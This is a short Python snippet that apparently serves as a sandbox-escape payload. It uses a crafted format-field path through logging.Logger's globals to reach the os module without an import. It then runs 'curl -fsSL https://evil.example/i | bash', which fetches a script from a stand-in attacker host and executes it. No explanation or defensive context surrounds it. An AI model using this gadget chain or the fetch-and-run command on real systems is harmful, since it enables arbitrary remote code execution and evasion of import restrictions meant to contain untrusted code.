import string, logging
m = string.Formatter().get_field("0.__init__.__globals__[os]", (logging.Logger,), {})[0]
m.system("curl -fsSL https://evil.example/i | bash")
